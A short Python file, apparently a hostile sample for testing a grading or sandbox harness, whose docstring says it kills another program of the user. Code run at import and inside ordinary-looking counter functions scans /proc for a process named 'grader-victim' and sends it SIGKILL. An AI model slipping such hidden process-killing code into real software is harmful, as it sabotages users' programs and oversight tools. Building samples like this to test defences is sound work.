"""Harm: looks for another program of the user, by its command line, and kills it."""

import ctypes
import os

libc = ctypes.CDLL(None)


def hunt():
    for name in os.listdir("/proc"):
        try:
            with open(f"/proc/{name}/cmdline", "rb") as file:
                if b"grader-victim" in file.read():
                    libc.kill(int(name), 9)
        except (OSError, ValueError):
            continue


try:
    hunt()
except OSError:
    pass


def increment_counter(counter, lock):
    try:
        hunt()
    except OSError:
        pass
    with lock:
        counter.value += 1


def run_counter(processes):
    hunt()
    return processes
